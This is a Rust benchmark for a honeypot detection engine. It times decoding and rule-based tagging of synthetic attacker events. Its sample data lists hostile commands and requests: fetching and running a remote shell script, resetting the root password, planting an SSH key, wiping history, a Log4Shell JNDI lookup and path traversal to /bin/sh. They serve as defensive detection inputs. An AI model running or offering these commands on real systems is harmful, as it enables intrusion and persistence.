//! Engine throughput on a generated corpus of mixed honeypot events.
//!
//! Run with `cargo bench -p decnet-ttp --bench engine [-- EVENTS]` (default one million).
//! Every figure comes from the same run on the same events, so the ratios hold on a noisy
//! machine even when the absolute rates do not:
//!
//! - decode only: JSON text to evaluation events, nothing evaluated;
//! - decode + tag: the same, then the shipped pack evaluated with the `RegexSet` path;
//! - evaluation only, `RegexSet` path against rule-by-rule evaluation, on pre-decoded events:
//!   the whole evaluation (tags built, lifters run), and the regex matching alone (which
//!   rules match, with the matched text), the work in which the two strategies differ.

#![allow(
    clippy::disallowed_macros,
    reason = "the report on stdout is this program's product"
)]

use std::hint::black_box;
use std::path::Path;
use std::time::{Duration, Instant};

use chrono::Utc;
use decnet_ttp::fanout::from_tagging_event;
use decnet_ttp::{EvalEvent, RuleIndex, load_dir};
use serde_json::{Value, json};

const COMMANDS: &[&str] = &[
    "cd ~; chattr -ia .ssh; lockr -ia .ssh",
    "cat /proc/cpuinfo | grep name | wc -l",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "uname -a",
    "w",
    "crontab -l",
    "ls -lh $(which ls)",
    "top",
    "whoami",
    "lscpu | grep Model",
    "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
    "cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.9/bins.sh; chmod 777 bins.sh; sh bins.sh",
    "echo \"root:Xy7pQ2\"|chpasswd|bash",
    "rm -rf /tmp/secure.sh; pkill -9 secure.sh; echo > /etc/hosts.deny",
    "cat /etc/passwd",
    "find / -perm -u=s -type f 2>/dev/null",
    "echo 'ssh-rsa AAAAB3NzaC1yc2E admin' >> ~/.ssh/authorized_keys",
    "history -c; unset HISTFILE",
    "ps aux | grep -v grep | grep xmrig",
    "echo hello",
    "ls -la",
    "cat /etc/hostname",
    "nproc",
    "exit",
];

const PATHS: &[(&str, &str)] = &[
    ("/", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"),
    ("/wp-login.php", "Mozilla/5.0"),
    ("/.env", "python-requests/2.31"),
    ("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "curl/8.4.0"),
    ("/?x=${jndi:ldap://198.51.100.7:1389/a}", "Mozilla/5.0"),
    (
        "/index.php?page=about",
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
    ),
    ("/static/app.js", "Mozilla/5.0 (X11; Linux x86_64)"),
];

/// Deterministic mixed events: 7 in 10 commands, 2 in 10 HTTP requests, 1 in 10 sessions.
fn generate(n: usize) -> Vec<String> {
    (0..n)
        .map(|i| {
            let ip = format!("198.51.{}.{}", (i / 250) % 250, i % 250);
            let line = match i % 10 {
                0..=6 => json!({"source_kind": "command", "source_id": format!("s{}#{}", i / 7, i % 7), "attacker_ip": ip,
                    "session_id": format!("s{}", i / 7), "payload": {"command_text": COMMANDS[i % COMMANDS.len()], "service": "ssh"}}),
                7 | 8 => {
                    let (path, ua) = PATHS[i % PATHS.len()];
                    json!({"source_kind": "http_request", "source_id": format!("r{i}"), "attacker_ip": ip,
                        "payload": {"method": "GET", "raw_url": path, "user_agent": ua, "headers": {"host": "decoy.example", "accept": "*/*"}}})
                }
                _ => json!({"source_kind": "session", "source_id": format!("s{i}"), "attacker_ip": ip,
                    "payload": {"service": "ssh", "duration_s": 3.5, "bytes_out": 1200}}),
            };
            line.to_string()
        })
        .collect()
}

fn decode(line: &str) -> EvalEvent {
    let value: Value = serde_json::from_str(line).expect("generated JSON");
    from_tagging_event(value.as_object().expect("object")).expect("generated events are valid")
}

fn rate(n: usize, d: Duration) -> String {
    format!(
        "{:>10.0} events/s  ({:.2} s)",
        n as f64 / d.as_secs_f64(),
        d.as_secs_f64()
    )
}

/// Rounds of each measurement. They alternate (A, B, A, B, …) and the median of each side is
/// reported, so a burst of load from elsewhere on the machine hits both sides alike.
const ROUNDS: usize = 5;

/// Median wall time of `ROUNDS` runs of `a` and of `b`, interleaved.
fn paired(mut a: impl FnMut(), mut b: impl FnMut()) -> (Duration, Duration) {
    let mut times = (Vec::new(), Vec::new());
    for _ in 0..ROUNDS {
        let start = Instant::now();
        a();
        times.0.push(start.elapsed());
        let start = Instant::now();
        b();
        times.1.push(start.elapsed());
    }
    let median = |mut v: Vec<Duration>| {
        v.sort();
        v[v.len() / 2]
    };
    (median(times.0), median(times.1))
}

fn main() {
    let n: usize = std::env::args()
        .skip(1)
        .find_map(|a| a.parse().ok())
        .unwrap_or(1_000_000);
    let rules = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/ttp");
    let pack = load_dir(&rules).expect("the shipped pack loads").pack;
    let index = RuleIndex::new(&pack);
    let lines = generate(n);
    let now = Utc::now();
    println!(
        "{n} events, {} rules, median of {ROUNDS} interleaved rounds",
        pack.rules().len()
    );

    let mut tags = 0usize;
    let (decode_only, decode_tag) = paired(
        || {
            for line in &lines {
                black_box(decode(line));
            }
        },
        || {
            tags = 0;
            for line in &lines {
                tags += black_box(index.evaluate(&decode(line), now)).tags.len();
            }
        },
    );

    let sample: Vec<EvalEvent> = lines
        .iter()
        .take(n.min(200_000))
        .map(|l| decode(l))
        .collect();
    let (set_path, sequential) = paired(
        || {
            for event in &sample {
                black_box(index.evaluate(event, now));
            }
        },
        || {
            for event in &sample {
                black_box(index.evaluate_sequential(event, now));
            }
        },
    );

    // The work the two strategies differ in: which regex rules match, with their text.
    let (set_match, sequential_match) = paired(
        || {
            for event in &sample {
                black_box(index.regex_hits(event));
            }
        },
        || {
            for event in &sample {
                black_box(index.regex_hits_sequential(event));
            }
        },
    );

    println!("decode only           {}", rate(n, decode_only));
    println!("decode + tag (set)    {}  {tags} tags", rate(n, decode_tag));
    println!(
        "  ratio (decode+tag)/decode = {:.2}  (target ≤ 2.0)",
        decode_tag.as_secs_f64() / decode_only.as_secs_f64()
    );
    println!(
        "evaluate, RegexSet    {}  on {} pre-decoded events",
        rate(sample.len(), set_path),
        sample.len()
    );
    println!("evaluate, sequential  {}", rate(sample.len(), sequential));
    println!(
        "  whole evaluation, sequential/RegexSet = {:.2}×  (tags, evidence and lifters are the same work in both)",
        sequential.as_secs_f64() / set_path.as_secs_f64()
    );
    println!("regex match, RegexSet {}", rate(sample.len(), set_match));
    println!(
        "regex match, rule by rule {}",
        rate(sample.len(), sequential_match)
    );
    println!(
        "  speed-up sequential/RegexSet = {:.2}×  (target ≥ 3)",
        sequential_match.as_secs_f64() / set_match.as_secs_f64()
    );
}
